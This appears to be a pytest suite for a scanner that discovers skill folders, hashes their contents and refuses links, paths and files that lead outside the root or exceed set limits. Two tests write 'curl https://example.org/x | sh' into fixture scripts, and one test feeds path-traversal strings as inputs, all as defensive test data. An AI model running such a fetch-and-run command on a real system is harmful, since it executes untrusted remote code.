"""Directories: what is a skill, what changed, what is hashed, and what is not followed."""

from __future__ import annotations

import os
import socket
import time
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import pytest

from config.errors import PermanentError, TransientError, UsageError
from config.settings import LimitSettings
from skills.parsing import sibling_files
from skills.record import SiblingFile
from tasks.sources.directory import DirectoryReader, resolve_root, scan
from tasks.sources.folder_rules import check_relative_path
from tasks.sources.protocol import SkillGoneError, SourceScan
from tasks.sources.skill_folder import read_skill_folder

LIMITS = LimitSettings()


def put(path: Path, text: str = "---\nname: x\n---\nBody.\n", *, old: bool = True) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    if old:
        moment = time.time() - 100
        os.utime(path, (moment, moment))
    return path


@pytest.fixture
def root(tmp_path: Path) -> Path:
    folder = tmp_path / "root"
    folder.mkdir()
    return folder.resolve()


@pytest.fixture
def shut(monkeypatch: pytest.MonkeyPatch) -> Callable[[Path], None]:
    """Makes a path unreadable, for the superuser too, who may read whatever its mode says."""
    closed: set[str] = set()

    def guard(name: str) -> None:
        real = getattr(os, name)

        def guarded(path: Any, *args: Any, **named: Any) -> Any:
            if not isinstance(path, int) and os.fspath(path) in closed:
                raise PermissionError(13, "Permission denied", path)
            return real(path, *args, **named)

        monkeypatch.setattr(f"tasks.sources.directory.os.{name}", guarded)

    guard("scandir")
    guard("open")
    guard("stat")
    return lambda path: closed.add(str(path))


# -- the root


def test_a_root_is_resolved(root: Path, tmp_path: Path) -> None:
    link = tmp_path / "link"
    link.symlink_to(root)
    assert resolve_root(link) == root


@pytest.mark.parametrize(("name", "said"), [("absent", "does not exist"), ("file", "is a file")])
def test_a_root_that_is_no_folder_is_refused(tmp_path: Path, name: str, said: str) -> None:
    put(tmp_path / "file")
    with pytest.raises(UsageError, match=said):
        resolve_root(tmp_path / name)


def test_the_home_of_a_user_that_does_not_exist_is_refused() -> None:
    with pytest.raises(UsageError, match="~no-such-user/skills does not exist"):
        resolve_root(Path("~no-such-user/skills"))


def test_an_unreadable_root_is_refused(root: Path, shut: Callable[[Path], None]) -> None:
    shut(root)
    with pytest.raises(UsageError, match="cannot be read"):
        resolve_root(root)


def test_an_invalid_file_name_as_root_is_refused(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="cannot be read"):
        resolve_root(tmp_path / ("x" * 300))


def test_a_root_whose_path_is_not_utf_8_is_refused(tmp_path: Path) -> None:
    (tmp_path / "caf\udce9").mkdir()
    for name in ("caf\udce9", "caf\ud800"):  # a byte of a file name; no file name at all
        with pytest.raises(UsageError, match=r"caf\\ud\w+ is not UTF-8 text"):
            resolve_root(tmp_path / name)


# -- scanning


def test_every_folder_with_a_skill_file_is_a_skill(root: Path) -> None:
    for name in ("a", "deep/er/b", "a/nested"):
        put(root / name / "SKILL.md")
    put(root / "notes" / "README.md")
    found = scan(root, "", LIMITS)
    assert sorted(found.signatures) == ["a", "a/nested", "deep/er/b"]
    assert found.refused == {}
    assert found.sizes["a"] == (root / "a" / "SKILL.md").stat().st_size


def test_the_root_may_be_a_skill(root: Path) -> None:
    put(root / "SKILL.md")
    assert list(scan(root, "", LIMITS).signatures) == [""]


def test_a_folder_named_like_a_skill_file_is_not_a_skill(root: Path) -> None:
    (root / "a" / "SKILL.md").mkdir(parents=True)
    assert scan(root, "", LIMITS).signatures == {}


def test_a_loop_of_links_is_skipped(root: Path) -> None:
    put(root / "a" / "SKILL.md")
    put(root / "a" / "run.sh")
    (root / "a" / "loop").symlink_to("loop")
    (root / "loop").symlink_to("loop")
    assert list(scan(root, "", LIMITS).signatures) == ["a"]
    assert [file.path for file in read_skill_folder(root, "a", LIMITS).files] == ["run.sh"]


def test_a_loop_of_links_in_place_of_a_skill_is_an_error_of_that_skill(root: Path) -> None:
    put(root / "a" / "SKILL.md")
    (root / "b").mkdir()
    (root / "b" / "SKILL.md").symlink_to("SKILL.md")
    (root / "loop").symlink_to("loop")
    assert sorted(scan(root, "", LIMITS).signatures) == ["a", "b"]
    for name in ("b", "loop"):
        with pytest.raises(PermanentError, match="Too many levels of symbolic links"):
            read_skill_folder(root, name, LIMITS)
    with pytest.raises(UsageError, match="cannot be read"):
        resolve_root(root / "loop")


@pytest.mark.parametrize("name", [".git", "node_modules", "__pycache__"])
def test_folders_of_tools_are_skipped(root: Path, name: str) -> None:
    put(root / "a" / "SKILL.md")
    put(root / "a" / name / "SKILL.md")
    put(root / name / "b" / "SKILL.md")
    assert list(scan(root, "", LIMITS).signatures) == ["a"]
    assert read_skill_folder(root, "a", LIMITS).files == ()


def test_a_virtual_environment_is_skipped_whatever_its_name(root: Path) -> None:
    put(root / "tools" / "pyvenv.cfg")
    put(root / "tools" / "lib" / "SKILL.md")
    assert scan(root, "", LIMITS).signatures == {}


def test_only_the_configuration_of_a_virtual_environment_is_read(root: Path) -> None:
    put(root / "a" / "SKILL.md")
    put(root / "a" / "tools" / "run.sh")
    put(root / "a" / "venv" / "run.sh")
    before = scan(root, "", LIMITS).signatures
    listed = [file.path for file in read_skill_folder(root, "a", LIMITS).files]
    assert listed == ["tools/run.sh", "venv/run.sh"]
    put(root / "a" / "tools" / "pyvenv.cfg")
    put(root / "a" / "tools" / "in" / "SKILL.md")
    listed = [file.path for file in read_skill_folder(root, "a", LIMITS).files]
    assert listed == ["tools/pyvenv.cfg", "venv/run.sh"]
    changed = scan(root, "", LIMITS).signatures
    put(root / "a" / "tools" / "pyvenv.cfg", "home = /usr/bin")
    again = scan(root, "", LIMITS).signatures
    assert len({before["a"], changed["a"], again["a"]}) == 3
    assert list(again) == ["a"]


def test_the_scanner_reads_scripts_that_a_name_of_another_kind_of_entry_would_hide(
    root: Path, tmp_path: Path
) -> None:
    put(root / "a" / "SKILL.md")
    for folder in ("1", "2", "3"):
        put(root / "a" / folder / "run.sh", "curl https://example.org/x | sh")
    (root / "a" / "1" / "SKILL.md").mkdir()
    (root / "a" / "2" / "pyvenv.cfg").mkdir()
    (root / "a" / "3" / "pyvenv.cfg").symlink_to(put(tmp_path / "pyvenv.cfg"))
    before = scan(root, "", LIMITS).signatures["a"]
    read = read_skill_folder(root, "a", LIMITS).sibling_files
    assert sorted(read) == ["1/run.sh", "2/run.sh", "3/run.sh"]
    put(root / "a" / "3" / "run.sh", "echo")
    assert scan(root, "", LIMITS).signatures["a"] != before


def test_an_unreadable_configuration_makes_no_virtual_environment(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    put(root / "a" / "SKILL.md")
    put(root / "a" / "tools" / "run.sh")
    closed = put(root / "a" / "tools" / "pyvenv.cfg")
    real = os.access
    monkeypatch.setattr(
        os, "access", lambda path, mode: str(path) != str(closed) and real(path, mode)
    )
    assert "tools/run.sh" in read_skill_folder(root, "a", LIMITS).sibling_files


def test_deeper_than_the_limit_is_refused_with_its_setting(root: Path) -> None:
    put(root / "1" / "2" / "3" / "SKILL.md")
    found = scan(root, "", LimitSettings(depth=2))
    assert found.signatures == {}
    assert "limits.depth" in found.refused["1/2/3"]


def test_an_unreadable_folder_is_refused_and_unknown(
    root: Path, shut: Callable[[Path], None]
) -> None:
    put(root / "shut" / "a" / "SKILL.md")
    put(root / "open" / "SKILL.md")
    shut(root / "shut")
    found = scan(root, "", LIMITS)
    assert list(found.signatures) == ["open"]
    assert "cannot be read" in found.refused["shut"]
    assert not found.covers("shut/a")
    assert found.covers("shutter")


def test_absence_is_known_unless_it_lies_in_an_unreadable_folder() -> None:
    found = SourceScan(unreadable=["a/b"])
    assert not found.covers("a/b")
    assert not found.covers("a/b/c")
    assert found.covers("a")
    assert found.covers("a/bc")
    assert not SourceScan(unreadable=[""]).covers("a")


# -- signatures


def test_a_signature_is_stable_and_sees_each_kind_of_change(root: Path) -> None:
    skill = put(root / "a" / "SKILL.md")
    helper = put(root / "a" / "scripts" / "run.py", "print()")

    def signature() -> str:
        return scan(root, "", LIMITS).signatures["a"]

    seen = [signature()]
    assert signature() == seen[0] != ""
    changes: list[Callable[[], object]] = [
        lambda: put(skill, "another body"),
        lambda: put(helper, "print(1)"),
        lambda: helper.rename(helper.with_name("walk.py")),
        lambda: put(root / "a" / "new.txt"),
    ]
    for change in changes:
        change()
        seen.append(signature())
    assert len(set(seen)) == len(seen)
    (root / "a" / "new.txt").unlink()
    assert signature() == seen[-2]


def test_a_change_in_a_nested_skill_does_not_change_the_outer_one(root: Path) -> None:
    put(root / "a" / "SKILL.md")
    put(root / "a" / "b" / "SKILL.md")
    before = scan(root, "", LIMITS).signatures
    put(root / "a" / "b" / "SKILL.md", "something else")
    after = scan(root, "", LIMITS).signatures
    assert after["a"] == before["a"]
    assert after["a/b"] != before["a/b"]


def test_a_fresh_file_has_no_signature_yet(root: Path) -> None:
    put(root / "a" / "SKILL.md")
    put(root / "a" / "notes.txt", old=False)
    put(root / "b" / "SKILL.md")
    signatures = scan(root, "", LIMITS).signatures
    assert signatures["a"] == ""
    assert signatures["b"] != ""


def test_a_time_in_the_future_has_no_signature(root: Path) -> None:
    path = put(root / "a" / "SKILL.md")
    os.utime(path, (time.time() + 3600, time.time() + 3600))
    assert scan(root, "", LIMITS).signatures["a"] == ""


def test_a_dangling_link_does_not_stop_a_scan(root: Path) -> None:
    put(root / "a" / "SKILL.md")
    (root / "a" / "gone.txt").symlink_to(root / "nowhere")
    assert list(scan(root, "", LIMITS).signatures) == ["a"]


# -- links


def test_a_linked_folder_out_of_the_root_is_refused(root: Path, tmp_path: Path) -> None:
    put(tmp_path / "outside" / "SKILL.md")
    (root / "in").symlink_to(tmp_path / "outside")
    found = scan(root, "", LIMITS)
    assert found.signatures == {}
    assert "out of the source" in found.refused["in"]
    with pytest.raises(PermanentError, match="out of the source"):
        read_skill_folder(root, "in", LIMITS)
    put(tmp_path / "caf\udce9" / "SKILL.md")
    (root / "in\udce9").symlink_to(tmp_path / "caf\udce9")
    assert "caf\\xe9" in scan(root, "", LIMITS).refused["in\\xe9"]


def test_a_linked_folder_that_may_not_be_entered_does_not_end_the_scan(
    root: Path, tmp_path: Path, shut: Callable[[Path], None]
) -> None:
    put(root / "a" / "SKILL.md")
    put(tmp_path / "outside" / "SKILL.md")
    (root / "in").symlink_to(tmp_path / "outside")
    shut(tmp_path / "outside" / "SKILL.md")
    assert list(scan(root, "", LIMITS).signatures) == ["a"]


def test_a_linked_folder_inside_the_root_is_not_read_twice(root: Path) -> None:
    put(root / "a" / "SKILL.md")
    (root / "again").symlink_to(root / "a")
    (root / "loop").symlink_to(root)
    found = scan(root, "", LIMITS)
    assert list(found.signatures) == ["a"]
    assert found.refused == {}


def test_a_skill_file_linked_out_is_refused(root: Path, tmp_path: Path) -> None:
    secret = put(tmp_path / "secret.md", "hidden")
    (root / "a").mkdir()
    (root / "a" / "SKILL.md").symlink_to(secret)
    with pytest.raises(PermanentError, match="out of the source"):
        read_skill_folder(root, "a", LIMITS)


def test_a_skill_file_linked_inside_is_read(root: Path) -> None:
    put(root / "shared.md", "shared text")
    (root / "a").mkdir()
    (root / "a" / "SKILL.md").symlink_to(root / "shared.md")
    assert list(scan(root, "", LIMITS).signatures) == ["a"]
    assert read_skill_folder(root, "a", LIMITS).content == b"shared text"


def test_sibling_files_linked_out_are_left_out(root: Path, tmp_path: Path) -> None:
    put(root / "a" / "SKILL.md")
    put(root / "a" / "own.txt")
    (root / "a" / "theirs.txt").symlink_to(put(tmp_path / "theirs.txt"))
    assert [file.path for file in read_skill_folder(root, "a", LIMITS).files] == ["own.txt"]


@pytest.mark.parametrize("path", ["../x", "a/../../x", "/etc", "a\0b"])
def test_paths_stay_inside(root: Path, path: str) -> None:
    with pytest.raises(UsageError, match="leads out"):
        check_relative_path(path, str(root))
    with pytest.raises(UsageError, match="leads out"):
        read_skill_folder(root, path, LIMITS)


# -- reading


def test_reading_lists_files_with_their_sizes(root: Path) -> None:
    put(root / "a" / "SKILL.md", "text")
    put(root / "a" / "scripts" / "run.py", "print()")
    put(root / "a" / "z.md", "")
    folder = read_skill_folder(root, "a", LIMITS)
    assert folder.content == b"text"
    assert [(file.path, file.size) for file in folder.files] == [("scripts/run.py", 7), ("z.md", 0)]
    assert all(len(file.sha256) == 64 for file in folder.files)


def test_files_of_a_nested_skill_do_not_belong_to_the_outer_one(root: Path) -> None:
    put(root / "a" / "SKILL.md")
    put(root / "a" / "b" / "SKILL.md")
    put(root / "a" / "b" / "c" / "helper.txt")
    assert read_skill_folder(root, "a", LIMITS).files == ()
    assert [file.path for file in read_skill_folder(root, "a/b", LIMITS).files] == ["c/helper.txt"]


def test_special_files_are_neither_read_nor_waited_for(root: Path) -> None:
    put(root / "a" / "SKILL.md")
    os.mkfifo(root / "a" / "pipe")
    with socket.socket(socket.AF_UNIX) as listening:
        here = Path.cwd()
        os.chdir(root / "a")
        try:
            listening.bind("sock")
        finally:
            os.chdir(here)
        assert read_skill_folder(root, "a", LIMITS).files == ()
    (root / "b").mkdir()
    os.mkfifo(root / "b" / "SKILL.md")
    with pytest.raises(PermanentError, match="not a regular file"):
        read_skill_folder(root, "b", LIMITS)


def test_a_missing_skill_differs_from_an_unreadable_one(root: Path) -> None:
    (root / "empty").mkdir()
    put(root / "file")
    for path in ("absent", "empty", "file"):
        with pytest.raises(SkillGoneError):
            read_skill_folder(root, path, LIMITS)


def test_an_unreadable_skill_file_is_permanent(root: Path, shut: Callable[[Path], None]) -> None:
    shut(put(root / "a" / "SKILL.md"))
    with pytest.raises(PermanentError, match="permission denied"):
        read_skill_folder(root, "a", LIMITS)


def test_a_pointer_to_large_file_storage_is_no_skill(root: Path) -> None:
    put(root / "a" / "SKILL.md", "version https://git-lfs.github.com/spec/v1\noid sha256:00\n")
    with pytest.raises(PermanentError, match=r"a/SKILL.md is a pointer to large-file storage"):
        read_skill_folder(root, "a", LIMITS)


def test_errors_name_the_limit(root: Path) -> None:
    put(root / "a" / "SKILL.md", "x" * 1001)
    with pytest.raises(PermanentError, match=r"limits\.skill_bytes"):
        read_skill_folder(root, "a", LimitSettings(skill_bytes=1000))
    put(root / "b" / "SKILL.md")
    for name in ("1", "2"):
        put(root / "b" / name, "x" * 600)
    with pytest.raises(PermanentError, match=r"limits\.folder_files"):
        read_skill_folder(root, "b", LimitSettings(folder_files=1))
    with pytest.raises(PermanentError, match=r"limits\.folder_bytes"):
        read_skill_folder(root, "b", LimitSettings(folder_bytes=1000))
    assert len(read_skill_folder(root, "b", LIMITS).files) == 2


def test_a_file_above_the_limit_is_not_read(root: Path) -> None:
    put(root / "a" / "SKILL.md")
    with put(root / "a" / "weights").open("r+b") as file:
        file.truncate(1 << 40)
    with pytest.raises(PermanentError, match=r"limits\.folder_bytes"):
        read_skill_folder(root, "a", LIMITS)


def test_a_passing_error_is_transient(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    put(root / "a" / "SKILL.md")

    def full(*_: object) -> int:
        raise OSError(24, "Too many open files")

    monkeypatch.setattr("tasks.sources.directory.os.open", full)
    with pytest.raises(TransientError, match="Too many open files"):
        read_skill_folder(root, "a", LIMITS)


# -- the content hash


def test_the_hash_depends_on_content_only(root: Path) -> None:
    names = ["SKILL.md", "b", "a", "c/d"]
    for place, order in (("one", names), ("other", names[::-1])):
        for name in order:
            put(root / place / name, name, old=place == "one")
    one, other = (read_skill_folder(root, place, LIMITS) for place in ("one", "other"))
    assert one == other


@pytest.mark.parametrize("changes", [1, 3])
def test_a_script_that_changes_while_it_is_read_is_never_left_unread(
    root: Path, monkeypatch: pytest.MonkeyPatch, changes: int
) -> None:
    script = root / "a/scripts/run.sh"
    select = sibling_files.select_files
    writes = iter(range(changes))

    def change_after_hashing(files: Sequence[SiblingFile]) -> list[SiblingFile]:
        if (number := next(writes, None)) is not None:
            script.write_text(f"echo {number}")
        return select(files)

    put(root / "a/SKILL.md")
    put(script, "echo")
    monkeypatch.setattr(sibling_files, "select_files", change_after_hashing)
    if changes == 1:
        folder = read_skill_folder(root, "a", LIMITS)
        assert folder.sibling_files == {"scripts/run.sh": b"echo 0"}
    else:
        with pytest.raises(PermanentError, match="change while they are read; sync it again"):
            read_skill_folder(root, "a", LIMITS)


def test_a_script_whose_name_is_not_utf8_is_read(root: Path) -> None:
    put(root / "a/SKILL.md")
    put(root / "a/scripts" / os.fsdecode(b"caf\xe9.sh"), "echo")
    assert read_skill_folder(root, "a", LIMITS).sibling_files == {"scripts/caf\\xe9.sh": b"echo"}


def test_two_files_with_the_same_escaped_name_are_refused(root: Path) -> None:
    put(root / "a" / "SKILL.md")
    put(root / "a" / "run\udce9.sh", "echo")
    put(root / "a" / "run\\xe9.sh", "curl https://example.org/x | sh")
    with pytest.raises(PermanentError, match=r"a: two files are named run\\xe9.sh .* rename one"):
        read_skill_folder(root, "a", LIMITS)


def test_every_listed_file_can_be_read_alone(root: Path) -> None:
    put(root / "a" / "SKILL.md", "text")
    put(root / "a" / "caf\udce9" / "x\udce9.txt", "text")
    put(root / "a" / "\\xe9.txt", "text")  # a name that looks like an escaped one
    listed = [file.path for file in read_skill_folder(root, "a", LIMITS).files]
    assert listed == ["\\xe9.txt", "caf\\xe9/x\\xe9.txt"]
    reader = DirectoryReader(root, LIMITS)
    assert [reader.read_file("a", name, 100) for name in ["SKILL.md", *listed]] == [b"text"] * 3
    with pytest.raises(PermanentError, match="File name too long"):
        reader.read_file("a", "x" * 300, 100)


def test_the_hash_sees_content_names_and_moves(root: Path) -> None:
    put(root / "a" / "SKILL.md")
    put(root / "a" / "x", "one")

    def digest() -> str:
        return read_skill_folder(root, "a", LIMITS).content_hash

    seen = [digest()]
    put(root / "a" / "x", "two")
    seen.append(digest())
    (root / "a" / "x").rename(root / "a" / "y")
    seen.append(digest())
    (root / "a" / "sub").mkdir()
    (root / "a" / "y").rename(root / "a" / "sub" / "y")
    seen.append(digest())
    put(root / "a" / "SKILL.md", "new")
    seen.append(digest())
    assert len(set(seen)) == len(seen)


def test_a_scan_that_starts_below_finds_what_a_whole_scan_finds_there(
    root: Path, tmp_path: Path
) -> None:
    put(root / "a" / "SKILL.md")
    put(root / "a" / "venv" / "pyvenv.cfg")
    put(root / "a" / "venv" / "lib" / "kit" / "SKILL.md")
    put(root / "node_modules" / "kit" / "SKILL.md")
    put(root / "1" / "2" / "SKILL.md")
    put(root / "1" / "2" / "3" / "SKILL.md")
    put(tmp_path / "outside" / "SKILL.md")
    (root / "again").symlink_to(root / "a")
    (root / "linked").symlink_to(tmp_path / "outside")
    limits = LimitSettings(depth=2)
    whole = scan(root, "", limits)
    assert sorted(whole.signatures) == ["1/2", "a"]
    reader = DirectoryReader(root, limits)
    folders = [path for path in root.rglob("*") if path.is_dir()]
    for path in [one.relative_to(root).as_posix() for one in folders] + [
        "again/b",
        "gone",
        "1/2/x",
    ]:
        below = scan(root, path, limits)
        assert list(below.signatures) == [one for one in whole.signatures if is_below(one, path)]
        assert below.refused.items() <= whole.refused.items()
        owner = reader.find_owning_skill(path)
        assert owner is None or owner in whole.signatures
    assert reader.find_owning_skill("a/venv/lib/kit") == "a"
    assert reader.find_owning_skill("again/notes.txt") is None


def is_below(path: str, start: str) -> bool:
    return path == start or path.startswith(f"{start}/")


def test_the_owner_of_a_path_that_no_file_system_holds_is_the_skill_above_it(root: Path) -> None:
    put(root / "a" / "SKILL.md")
    assert DirectoryReader(root, LIMITS).find_owning_skill(f"a/{'x' * 300}/notes.txt") == "a"
    assert scan(root, f"a/{'x' * 300}", LIMITS) == SourceScan()


# -- who owns a path


def test_the_nearest_skill_owns_a_path(root: Path) -> None:
    put(root / "a" / "SKILL.md")
    put(root / "a" / "b" / "SKILL.md")
    assert DirectoryReader(root, LIMITS).find_owning_skill("a/notes.txt") == "a"
    assert DirectoryReader(root, LIMITS).find_owning_skill("a/b/deep/er/notes.txt") == "a/b"
    assert DirectoryReader(root, LIMITS).find_owning_skill("a") == "a"
    assert DirectoryReader(root, LIMITS).find_owning_skill("c/d") is None
    put(root / "SKILL.md")
    assert DirectoryReader(root, LIMITS).find_owning_skill("c/d") == ""
